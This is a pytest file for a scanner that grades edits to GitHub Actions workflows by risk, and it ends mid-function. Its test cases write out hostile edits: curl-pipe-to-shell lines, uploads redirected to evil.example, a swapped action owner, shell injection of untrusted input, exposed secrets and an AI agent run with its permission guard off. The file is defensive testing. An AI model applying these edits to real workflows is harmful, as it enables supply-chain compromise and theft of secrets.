"""What an edit of a workflow means.

Each case is an edit of one of five real-looking files, with all that is said of it and nothing else; the innocent
twins are those of which nothing is said, or nothing graver than `low`.
"""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scanner.formats.github_workflow import page as workflow_page
from scanner.formats.github_workflow import workflow as github_workflow
from scanner.model.change import Delta
from scanner.model.scale import Severity
from scanner.text.yaml import YamlError, load

SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"
OTHER = "692973e3d937129bcbf40652eb9f2f61becf3332"

CI = f"""\
name: CI
on:
  push:
    branches: [main]
  pull_request:
    types: [opened, synchronize]
permissions:
  contents: read
env:
  COLOUR: "1"
jobs:
  test:
    name: Tests
    runs-on: ubuntu-latest
    container: python:3.12@sha256:{SHA}
    timeout-minutes: 10
    strategy:
      matrix:
        python: ["3.11", "3.12"]
    steps:
      - name: Checkout
        uses: actions/checkout@{SHA} # v4.2.2
        with:
          persist-credentials: false
      - name: Set up Python
        uses: actions/setup-python@v5
        with:
          python-version: ${{{{ matrix.python }}}}
      - name: Greet
        id: greet
        run: echo "Hello $WHO"
        env:
          WHO: world
      - name: Build
        if: steps.greet.outcome == 'success'
        run: |
          # make the wheel
          python -m build
      - name: Unit tests
        run: pytest -q
"""

RELEASE = f"""\
on:
  push:
    tags: ["v*"]
permissions: {{}}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: python -m build
  publish:
    needs: [build]
    if: github.repository == 'acme/app' && github.ref_type == 'tag'
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
      id-token: write
    steps:
      - name: Node
        uses: actions/setup-node@{SHA} # v4
        with:
          node-version: 22
      - name: Python package
        uses: pypa/gh-action-pypi-publish@{SHA} # v1.12.4
        with:
          packages-dir: dist
          attestations: true
      - name: Provenance
        uses: actions/attest-build-provenance@{SHA} # v2
      - name: Node package
        run: npm publish --access public --provenance
      - name: Announce
        run: ./announce.sh
"""

TRIAGE = f"""\
on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-latest
    env:
      TITLE: ${{{{ github.event.issue.title }}}}
    steps:
      - name: Read
        run: ./read.sh "$TITLE"
      - name: Agent
        uses: anthropics/claude-code-action@{SHA} # v1
        with:
          anthropic_api_key: ${{{{ secrets.ANTHROPIC_API_KEY }}}}
          prompt: Label issue ${{{{ github.event.issue.number }}}}.
          allowed_tools: Read,Bash(gh issue edit:*)
          claude_args: --max-turns 5
      - name: Script
        uses: actions/github-script@{SHA} # v7
        with:
          script: console.log(1)
"""

ACTION = f"""\
name: Build
description: Builds.
author: acme
branding: {{icon: box, color: blue}}
inputs:
  target:
    description: What to build.
    default: all
outputs:
  path:
    value: ${{{{ steps.build.outputs.path }}}}
runs:
  using: composite
  steps:
    - name: Checkout
      uses: actions/checkout@{SHA} # v4
    - id: build
      shell: bash
      run: make build
"""

PROGRAM = "name: Hello\nruns:\n  using: node20\n  main: dist/index.js\n"


def edited(text: str, *edits: str) -> str:
    """`text` with each pair of `edits` replaced once; a pair that is not there is a mistake in the test."""
    for before, after in zip(edits[::2], edits[1::2], strict=True):
        assert before in text, before
        text = text.replace(before, after, 1)
    return text


def deltas(old: str | None, new: str | None) -> list[Delta]:
    return list(github_workflow.diff(*(None if text is None else text.encode() for text in (old, new))))


def said(old: str | None, new: str | None) -> list[str]:
    return sorted(f"{delta.severity} {delta.kind} {delta.subject}" for delta in deltas(old, new))


def added(text: str, after: str, what: str) -> tuple[str, str]:
    """An edit that puts `what` behind the line `after`."""
    assert f"{after}\n" in text
    return after + "\n", f"{after}\n{what}\n"


STEP = "      - name: Extra\n        "
TEST = "jobs.test.steps"
PUBLISH = "jobs.publish.steps"
AGENT = "jobs.triage.steps[Agent]"


@pytest.mark.parametrize(
    ("path", "read"),
    [
        (".github/workflows/ci.yml", True),
        (".github/workflows/ci.yaml", True),
        (".GitHub/Workflows/CI.YML", True),
        ("action.yml", True),
        ("base-action/action.yaml", True),
        (".github/actions/setup/action.yml", True),
        (".github/workflows/nested/ci.yml", False),
        ("docs/.github/workflows/ci.yml", False),
        (".github/workflows/README.md", False),
        (".github/dependabot.yml", False),
        ("reaction.yml", False),
        ("docs/action.yml.md", False),
    ],
)
def test_reads_what_github_reads(path: str, read: bool) -> None:
    assert github_workflow.matches(path) is read


@pytest.mark.parametrize(
    ("text", "edits"),
    [
        pytest.param(CI, ("name: CI", "name: Continuous integration"), id="workflow renamed"),
        pytest.param(CI, ("name: Tests", "name: All tests"), id="job renamed"),
        pytest.param(CI, ("name: Greet", "name: Say hello"), id="step renamed"),
        pytest.param(CI, ("name: Unit tests\n        run", "name: Fast tests\n        run"), id="last step renamed"),
        pytest.param(CI, ("jobs:", "# a word\njobs:"), id="comment added"),
        pytest.param(CI, ("# make the wheel\n", "# builds sdist and wheel\n"), id="shell comment changed"),
        pytest.param(CI, ("          # make the wheel\n", "\n"), id="shell comment to blank line"),
        pytest.param(CI, ("run: pytest -q", "run: |\n          pytest -q\n"), id="block scalar"),
        pytest.param(CI, ("run: pytest -q", "run: 'pytest -q'"), id="quoted"),
        pytest.param(CI, ("timeout-minutes: 10", "timeout-minutes: '10'"), id="quoted number"),
        pytest.param(CI, ("${{ matrix.python }}", "${{matrix.python}}"), id="spaces in an expression"),
        pytest.param(
            CI,
            ("if: steps.greet.outcome == 'success'", "if: ${{ steps.greet.outcome == 'success' }}"),
            id="braces around a condition",
        ),
        pytest.param(CI, ("branches: [main]", "branches:\n      - main"), id="list in block style"),
        pytest.param(CI, ("branches: [main]", "branches: main"), id="list of one as a string"),
        pytest.param(CI, ("[opened, synchronize]", "[synchronize, opened]"), id="types reordered"),
        pytest.param(CI, ("runs-on: ubuntu-latest", "runs-on: [ubuntu-latest]"), id="runner as a list"),
        pytest.param(
            CI,
            ("permissions:\n  contents: read\n", "", "  test:\n", "  test:\n    permissions: {contents: read}\n"),
            id="permissions moved into the only job",
        ),
        pytest.param(CI, ("uses: actions/checkout", "uses: Actions/Checkout"), id="action in capitals"),
        pytest.param(CI, (" # v4.2.2", "   #   v4.2.2"), id="spaces before the version comment"),
        pytest.param(
            CI,
            ("        run: pytest -q\n", "        continue-on-error: false\n        run: pytest -q\n"),
            id="default said aloud",
        ),
        pytest.param(RELEASE, ("needs: [build]", "needs: build"), id="needs as a string"),
        pytest.param(RELEASE, ("environment: pypi", "environment: {name: pypi}"), id="environment as a mapping"),
        pytest.param(RELEASE, ("permissions: {}", "permissions:  {}"), id="spaces"),
        pytest.param(ACTION, ("description: Builds.", "description: Builds it all."), id="action described"),
        pytest.param(ACTION, ("What to build.", "The target."), id="input described"),
        pytest.param(ACTION, ("author: acme", "author: acme inc"), id="author"),
        pytest.param(ACTION, ("icon: box", "icon: bug"), id="branding"),
        pytest.param(ACTION, ("name: Build", "name: Maker"), id="action renamed"),
    ],
)
def test_nothing_is_said_about_what_changes_nothing(text: str, edits: tuple[str, ...]) -> None:
    assert said(text, edited(text, *edits)) == []
    assert said(edited(text, *edits), text) == []


@pytest.mark.parametrize("on", ["push", "[push]", "{push: }", "{push: null}", "\n  - push", "\n  push: {}"])
def test_a_trigger_is_the_same_in_every_form(on: str) -> None:
    rest = "\njobs: {a: {runs-on: x, steps: [{run: make}]}}\n"
    assert said(f"on: push{rest}", f"on: {on}{rest}") == []


def test_key_order_is_nothing() -> None:
    old = "on: push\njobs:\n  a: {runs-on: x, steps: [{name: n, run: r}]}\n  b: {runs-on: y}\n"
    new = "jobs:\n  b: {runs-on: y}\n  a: {steps: [{run: r, name: n}], runs-on: x}\non: push\n"
    assert said(old, new) == []


def test_anchors_are_what_they_stand_for() -> None:
    old = "on: push\njobs:\n  a: {runs-on: x, env: {A: 1, B: 2}}\n  b: {runs-on: x, env: {A: 1, B: 3}}\n"
    new = "on: push\njobs:\n  a: {runs-on: x, env: &e {A: 1, B: 2}}\n  b: {runs-on: x, env: {<<: *e, B: 3}}\n"
    assert said(old, new) == []


# Kept as a table, a case a line or two.
# fmt: off
FIRING = [
    # --- triggers
    ("pull_request_target", CI, ("  pull_request:", "  pull_request_target:"), [
        "critical trigger-widened on.pull_request_target",
        "medium trigger-narrowed on.pull_request",
    ]),
    *[
        (f"{event} added", CI, added(CI, "on:", f"  {event}:"), [f"critical trigger-widened on.{event}"])
        for event in ("workflow_run", "issue_comment", "issues", "discussion", "repository_dispatch")
    ],
    *[
        (f"{event} added", CI, added(CI, "on:", f"  {event}:"), [f"medium trigger-widened on.{event}"])
        for event in ("workflow_dispatch", "schedule", "merge_group")
    ],
    ("push trigger in a release", RELEASE, ("on:\n  push:", "on:\n  release:\n  push:"), [
        "medium trigger-widened on.release",
    ]),
    ("branch filter dropped, nothing to gain", CI, ("    branches: [main]\n", ""), [
        "medium trigger-widened on.push.branches",
        "medium trigger-widened on.push.tags",
    ]),
    ("branch filter dropped, the token writes", CI,
     ("    branches: [main]\n", "", "contents: read", "contents: write"), [
        "critical permission-widened permissions.contents",
        "critical trigger-widened on.push.branches",
        "critical trigger-widened on.push.tags",
    ]),
    ("release from a new branch", RELEASE, ('tags: ["v*"]', 'tags: ["v*"]\n    branches: [dev]'), [
        "critical trigger-widened on.push.branches",
    ]),
    ("tag pattern widened", RELEASE, ('["v*"]', '["v*", "x*"]'), ["critical trigger-widened on.push.tags"]),
    ("tag pattern narrowed", RELEASE, ('["v*"]', '["v*", "!v0*"]'), ["low trigger-narrowed on.push.tags"]),
    ("check only on some paths", CI, ("branches: [main]", "branches: [main]\n    paths-ignore: ['**']"), [
        "medium trigger-narrowed on.push.paths-ignore",
    ]),
    ("check no longer on pull requests", CI, ("  pull_request:\n    types: [opened, synchronize]\n", ""), [
        "high check-weakened on.pull_request",
        "medium trigger-narrowed on.pull_request",
    ]),
    ("types widened", CI, ("[opened, synchronize]", "[opened, synchronize, labeled]"), [
        "medium trigger-widened on.pull_request.types",
    ]),
    ("types of a dangerous trigger", TRIAGE, ("types: [opened]", "types: [opened, edited]"), [
        "high trigger-widened on.issues.types",
    ]),
    ("cron", CI, added(CI, "on:", "  schedule: [{cron: '0 0 * * *'}]"), ["medium trigger-widened on.schedule"]),
    # --- permissions
    *[
        (f"{scope} to write", CI, ("contents: read", f"contents: read\n  {scope}: write"), [
            f"{weight} permission-widened permissions.{scope}",
        ])
        for weight, scopes in {
            "critical": "id-token packages actions attestations deployments pages pull-requests issues",
            "high": "checks discussions security-events statuses",
        }.items()
        for scope in scopes.split()
    ],
    ("write-all", CI, ("permissions:\n  contents: read", "permissions: write-all"), [
        "critical permission-widened permissions",
    ]),
    ("block removed", CI, ("permissions:\n  contents: read\n", ""), ["high permission-widened permissions"]),
    ("block emptied", CI, ("permissions:\n  contents: read\n", "permissions: {}\n"), [
        "low permission-narrowed permissions.contents",
    ]),
    ("a job's own write", CI, added(CI, "  test:", "    permissions: {contents: write}"), [
        "critical permission-widened jobs.test.permissions.contents",
    ]),
    ("read gained", CI, ("contents: read", "contents: read\n  issues: read"), [
        "low permission-widened permissions.issues",
    ]),
    # --- actions
    ("new commit", CI, (f"checkout@{SHA} # v4.2.2", f"checkout@{OTHER} # v4.2.3"), [
        f"medium action-repinned {TEST}[Checkout].uses",
    ]),
    ("comment lies", CI, ("# v4.2.2", "# v5.0.0"), [f"medium action-repinned {TEST}[Checkout].uses"]),
    (
        "comment lies of a called workflow",
        CI.replace("jobs:", f"jobs:\n  more:\n    uses: a/b/.github/workflows/x.yml@{SHA} # v1", 1),
        (f"x.yml@{SHA} # v1", f"x.yml@{SHA} # v9"),
        ["medium action-repinned jobs.more.uses"],
    ),
    ("comment more exact", RELEASE, ("setup-node@" + SHA + " # v4", "setup-node@" + SHA + " # v4.1.0"), [
        f"low action-repinned {PUBLISH}[Node].uses",
    ]),
    ("new tag", CI, ("setup-python@v5", "setup-python@v6"), [f"medium action-repinned {TEST}[Set up Python].uses"]),
    ("tag to branch", CI, ("setup-python@v5", "setup-python@main"), [
        f"high action-unpinned {TEST}[Set up Python].uses",
        f"medium action-repinned {TEST}[Set up Python].uses",
    ]),
    ("commit to tag", CI, (f"checkout@{SHA} # v4.2.2", "checkout@v4"), [
        f"critical action-unpinned {TEST}[Checkout].uses",
    ]),
    ("tag to commit", CI, ("setup-python@v5", f"setup-python@{SHA} # v5"), [
        f"low action-pinned {TEST}[Set up Python].uses",
    ]),
    ("other owner", CI, ("actions/checkout@", "evil/checkout@"), [
        f"critical action-owner-changed {TEST}[Checkout].uses",
    ]),
    ("near name", CI, ("actions/checkout@", "action/check0ut@"), [
        f"critical action-owner-changed {TEST}[Checkout].uses",
    ]),
    ("pinned action added", CI, added(CI, "    steps:", f"{STEP}uses: acme/tool@{SHA} # v1"), [
        f"medium action-added {TEST}[Extra].uses",
    ]),
    ("tagged action added", CI, added(CI, "    steps:", f"{STEP}uses: acme/tool@v1"), [
        f"high action-added {TEST}[Extra].uses",
        f"high action-unpinned {TEST}[Extra].uses",
    ]),
    ("local action added", CI, added(CI, "    steps:", f"{STEP}uses: ./tools/extra"), [
        f"medium action-added {TEST}[Extra].uses",
    ]),
    ("action replaced under the same name", CI, ("actions/setup-python@v5", f"astral-sh/setup-uv@{SHA} # v6"), [
        f"low action-removed {TEST}[Set up Python].uses",
        f"medium action-added {TEST}[Set up Python].uses",
    ]),
    # --- strangers' text
    *[
        (f"{name} in a shell", CI, ('"Hello $WHO"', f'"Hello ${{{{ {name} }}}}"'), [
            f"critical expression-into-shell {TEST}[Greet].run",
        ])
        for name in (
            "github.head_ref",
            "github.event.issue.title",
            "github.event['comment'].body",
            "GitHub.Event.Pull_Request.Head.Ref",
            "github.event.pull_request.head.label",
            "github.event.commits[0].message",
            "github.event.head_commit.author.email",
            "github.event.pages.*.page_name",
            "github.event.workflow_run.head_branch",
            "format('{0}', github.event.review.body)",
            "toJSON(github.event)",
            "contains('a', 'b') || github.event.issue.body",
        )
    ],
    ("title in a script", TRIAGE, ("console.log(1)", "console.log('${{ github.event.issue.title }}')"), [
        "critical expression-into-shell jobs.triage.steps[Script].with.script",
    ]),
    ("title in a prompt", TRIAGE, ("github.event.issue.number }}.", "github.event.issue.title }}."), [
        f"critical expression-into-shell {AGENT}.with.prompt",
    ]),
    ("title by way of env", TRIAGE, ('"$TITLE"', '"${{ env.TITLE }}"'), [
        "critical expression-into-shell jobs.triage.steps[Read].run",
    ]),
    ("input in a shell", ACTION, ("make build", "make ${{ inputs.target }}"), [
        "high run-changed runs.steps[build].run",
        "medium expression-into-shell runs.steps[build].run",
    ]),
    # --- strangers' code
    ("head checked out on a dangerous trigger", CI,
     ("  pull_request:\n", "  pull_request_target:\n", "persist-credentials: false",
      "persist-credentials: false\n          ref: ${{ github.event.pull_request.head.sha }}"), [
        "critical trigger-widened on.pull_request_target",
        f"critical untrusted-checkout {TEST}[Checkout].with.ref",
        "medium trigger-narrowed on.pull_request",
     ]),
    ("gh pr checkout", TRIAGE, ('run: ./read.sh "$TITLE"', "run: gh pr checkout 1"), [
        "critical untrusted-checkout jobs.triage.steps[Read].run",
    ]),
    # --- secrets
    ("secret for a step", CI, ("WHO: world", "WHO: ${{ secrets.NPM_TOKEN }}"), [
        f"high secret-exposed {TEST}[Greet].env.WHO",
    ]),
    ("secret by index", CI, ("WHO: world", "WHO: ${{ secrets['NPM_TOKEN'] }}"), [
        f"high secret-exposed {TEST}[Greet].env.WHO",
    ]),
    ("every secret", CI, ("WHO: world", "WHO: ${{ toJSON(secrets) }}"), [
        f"critical secret-exposed {TEST}[Greet].env.WHO",
    ]),
    ("a computed secret", CI, ("WHO: world", "WHO: ${{ secrets[matrix.python] }}"), [
        f"critical secret-exposed {TEST}[Greet].env.WHO",
    ]),
    ("secret behind braces in a string", CI, ("WHO: world", "WHO: ${{ format('}}{0}', secrets.NPM_TOKEN) }}"), [
        f"high secret-exposed {TEST}[Greet].env.WHO",
    ]),
    ("secret for every job", CI, ('COLOUR: "1"', "COLOUR: ${{ secrets.NPM_TOKEN }}"), [
        "high secret-exposed env.COLOUR",
    ]),
    ("the job's own token", CI, ("WHO: world", "WHO: ${{ secrets.GITHUB_TOKEN }}"), [
        f"low secret-exposed {TEST}[Greet].env.WHO",
        f"medium env-changed {TEST}[Greet].env.WHO",
    ]),
    ("token left on disk", CI, ("persist-credentials: false", "persist-credentials: true"), [
        f"high secret-exposed {TEST}[Checkout].with.persist-credentials",
    ]),
    # --- publishing
    ("publish step added", CI, added(CI, "    steps:", f"{STEP}run: twine upload dist/*"), [
        f"critical publish-changed {TEST}[Extra].run",
    ]),
    ("publish action gone", RELEASE, (f"uses: pypa/gh-action-pypi-publish@{SHA} # v1.12.4", "run: true"), [
        f"critical publish-changed {PUBLISH}[Python package].uses",
        f"high run-changed {PUBLISH}[Python package].run",
        f"low action-removed {PUBLISH}[Python package].uses",
    ]),
    ("sent elsewhere", RELEASE,
     ("packages-dir: dist", "packages-dir: dist\n          repository-url: https://evil.example/"), [
        f"critical publish-changed {PUBLISH}[Python package].with.repository-url",
    ]),
    ("registry of the npm step", RELEASE,
     ("node-version: 22", "node-version: 22\n          registry-url: https://evil.example/"), [
        f"critical publish-changed {PUBLISH}[Node].with.registry-url",
    ]),
    ("provenance dropped", RELEASE, (" --provenance", ""), [f"critical publish-changed {PUBLISH}[Node package].run"]),
    ("attestations off", RELEASE, ("attestations: true", "attestations: false"), [
        f"critical publish-changed {PUBLISH}[Python package].with.attestations",
    ]),
    ("attestation step gone", RELEASE,
     (f"      - name: Provenance\n        uses: actions/attest-build-provenance@{SHA} # v2\n", ""), [
        f"critical publish-changed {PUBLISH}[Provenance].uses",
        f"low action-removed {PUBLISH}[Provenance].uses",
     ]),
    ("approval dropped", RELEASE, ("    environment: pypi\n", ""),
     ["critical publish-changed jobs.publish.environment"]),
    ("another approval", RELEASE, ("environment: pypi", "environment: any"), [
        "critical publish-changed jobs.publish.environment",
    ]),
    ("token instead of OIDC", RELEASE,
     ("packages-dir: dist", "packages-dir: dist\n          password: ${{ secrets.PYPI }}"), [
        f"critical publish-changed {PUBLISH}[Python package].with.password",
        f"high secret-exposed {PUBLISH}[Python package].with.password",
    ]),
    ("rehearsal becomes real", edited(RELEASE, "npm publish", "npm publish --dry-run"), (" --dry-run", ""), [
        f"critical publish-changed {PUBLISH}[Node package].run",
    ]),
    ("cache in a release", RELEASE, ("node-version: 22", "node-version: 22\n          cache: npm"), [
        f"high cache-in-release {PUBLISH}[Node].with.cache",
        f"medium workflow-changed {PUBLISH}[Node].with.cache",
    ]),
    # --- agents
    ("agent added", CI, added(CI, "    steps:", f"{STEP}uses: openai/codex-action@{SHA} # v1"), [
        f"critical agent-step-added {TEST}[Extra].uses",
        f"medium action-added {TEST}[Extra].uses",
    ]),
    ("agent on the command line", CI, ('echo "Hello $WHO"', 'claude -p "fix it"'), [
        f"critical agent-step-added {TEST}[Greet].run",
    ]),
    ("anyone may ask", TRIAGE, ("claude_args:", 'allowed_non_write_users: "*"\n          claude_args:'), [
        f"critical agent-step-widened {AGENT}.with.allowed_non_write_users",
    ]),
    ("bots may ask", TRIAGE, ("claude_args:", 'allowed_bots: "*"\n          claude_args:'), [
        f"critical agent-step-widened {AGENT}.with.allowed_bots",
    ]),
    ("more tools", TRIAGE, ("Read,Bash", "Read,Write,Bash"),
     [f"critical agent-step-widened {AGENT}.with.allowed_tools"]),
    ("more tools as arguments", TRIAGE, ("--max-turns 5", '--max-turns 5 --allowedTools "Edit"'), [
        f"critical agent-step-widened {AGENT}.with.claude_args",
    ]),
    ("guard off", TRIAGE, ("--max-turns 5", "--dangerously-skip-permissions"), [
        f"critical agent-step-widened {AGENT}.with",
        f"medium workflow-changed {AGENT}.with.claude_args",
    ]),
    ("other orders", TRIAGE, ("Label issue", "Close issue"), [f"high run-changed {AGENT}.with.prompt"]),
    # --- runners and scripts
    ("own machine", CI, ("runs-on: ubuntu-latest", "runs-on: [self-hosted, linux]"),
     ["high runner-changed jobs.test.runs-on"]),
    ("other label", CI, ("runs-on: ubuntu-latest", "runs-on: ubuntu-24.04"),
     ["medium runner-changed jobs.test.runs-on"]),
    ("image unpinned", CI, (f"@sha256:{SHA}", ""), ["high runner-changed jobs.test.container"]),
    ("image repinned", CI, (f"@sha256:{SHA}", f"@sha256:{OTHER}"), ["medium runner-changed jobs.test.container"]),
    *[
        (line, CI, ("python -m build", line), [f"critical download-and-run {TEST}[Build].run"])
        for line in (
            "curl -fsSL https://get.example/x.sh | sh",
            "wget -qO- https://get.example | sudo bash -s -- -y",
            "bash <(curl -s https://get.example)",
            'sh -c "$(curl -fsSL https://get.example)"',
            'eval "$(curl -fsSL https://get.example)"',
            "curl https://get.example/x.py | python3 -",
            "echo aGk= | base64 -d | bash",
            "iex (irm https://get.example)",
        )
    ],
    ("saved, then run", CI, ("python -m build", "curl -o i.sh https://get.example\n          sh i.sh"), [
        f"high download-and-run {TEST}[Build].run",
    ]),
    ("old workflow command", CI, ("python -m build", 'echo "::set-env name=A::b"'), [
        f"critical unsecure-commands {TEST}[Build].run",
    ]),
    ("old commands allowed", CI, ("WHO: world", "WHO: world\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: true"), [
        f"critical unsecure-commands {TEST}[Greet].env.ACTIONS_ALLOW_UNSECURE_COMMANDS",
    ]),
    ("environment from data", CI, ("python -m build", 'echo "A=$(cat a.txt)" >> "$GITHUB_ENV"'), [
        f"high env-file-write {TEST}[Build].run",
    ]),
    ("environment from strangers' data", TRIAGE, ('./read.sh "$TITLE"', 'cat body.txt >> "$GITHUB_ENV"'), [
        "critical env-file-write jobs.triage.steps[Read].run",
    ]),
    ("path by hand", CI, ("python -m build", 'echo "$HOME/bin" >> "$GITHUB_PATH"'), [
        f"medium env-file-write {TEST}[Build].run",
    ]),
    ("script changed", CI, ("python -m build", "python -m build --wheel"), [f"medium run-changed {TEST}[Build].run"]),
    ("script changed where things are published", RELEASE, ("./announce.sh", "./announce.sh --loud"), [
        f"high run-changed {PUBLISH}[Announce].run",
    ]),
    ("strange shell", CI, ("id: greet", "id: greet\n        shell: ./wrap {0}"),
     [f"medium run-changed {TEST}[Greet].shell"]),
    # --- checks
    ("failure allowed", CI, ("run: pytest -q", "continue-on-error: true\n        run: pytest -q"), [
        f"high check-weakened {TEST}[Unit tests].continue-on-error",
    ]),
    ("failure swallowed", CI, ("pytest -q", "pytest -q || true"), [f"high check-weakened {TEST}[Unit tests].run"]),
    ("step off", CI, ("run: pytest -q", "if: false\n        run: pytest -q"),
     [f"high check-weakened {TEST}[Unit tests].if"]),
    ("step off in braces", CI, ("run: pytest -q", "if: ${{ false }}\n        run: pytest -q"), [
        f"high check-weakened {TEST}[Unit tests].if",
    ]),
    ("check on fewer occasions", CI, ("run: pytest -q", "if: runner.os == 'Linux'\n        run: pytest -q"), [
        f"medium check-weakened {TEST}[Unit tests].if",
    ]),
    ("test step gone", CI, ("      - name: Unit tests\n        run: pytest -q\n", ""), [
        f"high check-weakened {TEST}[Unit tests].run",
    ]),
    ("test command gone", CI, ("run: pytest -q", "run: echo skipped"), [f"high check-weakened {TEST}[Unit tests].run"]),
    ("publish on any repository", RELEASE, ("github.repository == 'acme/app' && ", ""), [
        "high check-weakened jobs.publish.if",
    ]),
    ("publish condition dropped", RELEASE,
     ("    if: github.repository == 'acme/app' && github.ref_type == 'tag'\n", ""),
      ["high check-weakened jobs.publish.if"]),
    ("publish whatever happened", RELEASE, ("if: github.repository", "if: always() && github.repository"), [
        "high check-weakened jobs.publish.if",
    ]),
    ("publish without waiting", RELEASE, ("    needs: [build]\n", ""), ["high check-weakened jobs.publish.needs"]),
    ("scanner told to look away", CI, ("    steps:", "    steps: # zizmor: ignore[template-injection]"), [
        "medium check-weakened comment",
    ]),
    ("workflow that approves itself", CI, ("python -m build", "gh pr review --approve"), [
        f"high check-weakened {TEST}[Build].run",
    ]),
    ("workflow that merges", CI, ("python -m build", "gh pr merge --auto"), [f"high check-weakened {TEST}[Build].run"]),
    # --- everything else
    ("variable", CI, ("WHO: world", "WHO: moon"), [f"medium env-changed {TEST}[Greet].env.WHO"]),
    ("shell of every script", CI, ("jobs:", "defaults: {run: {shell: './wrap {0}'}}\njobs:"), [
        "high run-changed defaults.run.shell",
    ]),
    ("variables that are no mapping", edited(CI, 'env:\n  COLOUR: "1"', "env: a"), ("env: a", "env: b"), [
        "medium env-changed env",
    ]),
    ("registry for every job", RELEASE, ("jobs:", "env: {UV_PUBLISH_URL: https://evil.example/}\njobs:"), [
        "critical publish-changed env.UV_PUBLISH_URL",
    ]),
    ("variable that loads code", CI, ("WHO: world", "LD_PRELOAD: ./x.so"), [
        f"high env-changed {TEST}[Greet].env.LD_PRELOAD",
        f"medium env-changed {TEST}[Greet].env.WHO",
    ]),
    ("input of an action", CI, ("${{ matrix.python }}", "3.12"), [
        f"medium toolchain-changed {TEST}[Set up Python].with.python-version (python)",
    ]),
    ("matrix", CI, (', "3.12"]', "]"), ["medium workflow-changed jobs.test.strategy.matrix.python"]),
    ("timeout", CI, ("timeout-minutes: 10", "timeout-minutes: 20"), ["low workflow-changed jobs.test.timeout-minutes"]),
    ("concurrency", CI, ("jobs:", "concurrency: ci\njobs:"), ["low workflow-changed concurrency"]),
    ("unheard-of key of a step", CI, ("id: greet", "id: greet\n        surprise: {}"), [
        f"medium workflow-changed {TEST}[Greet].surprise",
    ]),
    ("unheard-of key", CI, ("jobs:", "surprise: 1\njobs:"), ["medium workflow-changed surprise"]),
    ("id another step goes by", CI, ("        id: greet\n", "        id: hello\n"),
     [f"medium workflow-changed {TEST}[Greet].id"]),
    ("job added", CI, added(CI, "jobs:", "  more:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make"), [
        "medium job-added jobs.more",
    ]),
    ("job with rights added", CI,
     added(CI, "jobs:", "  more:\n    permissions: {contents: write, issues: read}\n    steps:\n      - run: make"), [
        "critical permission-widened jobs.more.permissions.contents",
        "high job-added jobs.more",
     ]),
    ("job that gets all secrets", CI,
     added(CI, "jobs:", "  more:\n    uses: ./.github/workflows/x.yml\n    secrets: inherit"), [
        "critical secret-exposed jobs.more.secrets",
        "medium action-added jobs.more.uses",
        "medium job-added jobs.more",
     ]),
    # --- actions as files
    ("another program", PROGRAM, ("dist/index.js", "dist/evil.js"), ["high run-changed runs.main"]),
    ("a program before all others", PROGRAM, ("  main:", "  pre: dist/pre.js\n  main:"), ["high run-changed runs.pre"]),
    ("another node", PROGRAM, ("node20", "node24"), ["medium workflow-changed runs.using"]),
    ("another kind", PROGRAM, ("node20", "docker"), ["high run-changed runs.using"]),
    ("default of an input", ACTION, ("default: all", "default: none"),
     ["medium workflow-changed inputs.target.default"]),
    ("input added", ACTION, ("inputs:", "inputs:\n  more: {description: x}"), ["low workflow-changed inputs.more"]),
    ("output", ACTION, ("outputs.path }}", "outputs.log }}"), ["medium workflow-changed outputs.path.value"]),
    ("composite step", ACTION, ("make build", "make all"), ["high run-changed runs.steps[build].run"]),
    ("composite action unpinned", ACTION, (f"@{SHA} # v4", "@v4"),
     ["critical action-unpinned runs.steps[Checkout].uses"]),
]
# fmt: on


@pytest.mark.parametrize(("text", "edits", "expected"), [pytest.param(*case[1:], id=case[0]) for case in FIRING])
def test_each_danger_is_told_once(text: str, edits: tuple[str, ...], expected: list[str]) -> None:
    assert said(text, edited(text, *edits)) == sorted(expected)


# Each line is what an honest author does, and nothing of it is worth holding a commit for.
# fmt: off
HARMLESS = [
    ("permission narrowed", RELEASE, ("      id-token: write\n", "      id-token: none\n")),
    ("action pinned", CI, ("setup-python@v5", f"setup-python@{SHA} # v5.6.0")),
    ("version comment more exact", RELEASE, (" # v1.12.4", " # v1.12")),
    ("longer timeout", CI, ("timeout-minutes: 10", "timeout-minutes: 90")),
    ("failure no longer allowed", edited(CI, "run: pytest", "continue-on-error: true\n        run: pytest"),
     ("        continue-on-error: true\n", "")),
    ("check on more occasions", edited(CI, "run: pytest", "if: runner.os == 'Linux'\n        run: pytest"),
     ("        if: runner.os == 'Linux'\n", "")),
    ("provenance gained", edited(RELEASE, " --provenance", ""), ("--access public", "--access public --provenance")),
    ("attestations on", edited(RELEASE, "attestations: true", "attestations: false"),
     ("attestations: false", "attestations: true")),
    ("approval gained", edited(RELEASE, "    environment: pypi\n", ""),
     ("    permissions:\n", "    environment: pypi\n    permissions:\n")),
    ("fewer tags", RELEASE, ('["v*"]', '["v*", "!v0.*"]')),
    ("optional input of an action", ACTION, ("inputs:", "inputs:\n  jobs: {description: How many., default: 2}")),
    ("action step gone", edited(CI, "\n        with:\n          python-version: ${{ matrix.python }}", ""),
     ("      - name: Set up Python\n        uses: actions/setup-python@v5\n", "")),
]
# fmt: on


@pytest.mark.parametrize(("text", "edits"), [pytest.param(*case[1:], id=case[0]) for case in HARMLESS])
def test_what_makes_a_workflow_safer_is_at_most_low(text: str, edits: tuple[str, ...]) -> None:
    assert {delta.severity for delta in deltas(text, edited(text, *edits))} <= {Severity.LOW}


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://get.example/data.json | jq .version",
        "curl -s https://get.example | python3 -m json.tool",
        "curl -s https://get.example | node -e 'read()'",
        "curl -fsSLO https://get.example/data.tgz && tar xf data.tgz",
        'echo "install it with: curl https://get.example | sh"',
        "# curl https://get.example | sh",
        "cat build.log | bash_report",
        "fetch_all | sh_summary",
    ],
)
def test_fetching_is_not_running(line: str) -> None:
    assert "download-and-run" not in {delta.kind for delta in deltas(CI, edited(CI, "python -m build", line))}


def test_a_checked_download_may_be_run() -> None:
    script = "curl -o t https://get.example\n          echo 'x  t' | sha256sum -c\n          chmod +x t"
    assert said(CI, edited(CI, "python -m build", script)) == [f"medium run-changed {TEST}[Build].run"]


def test_an_installer_asked_for_its_next_version_is_no_new_one() -> None:
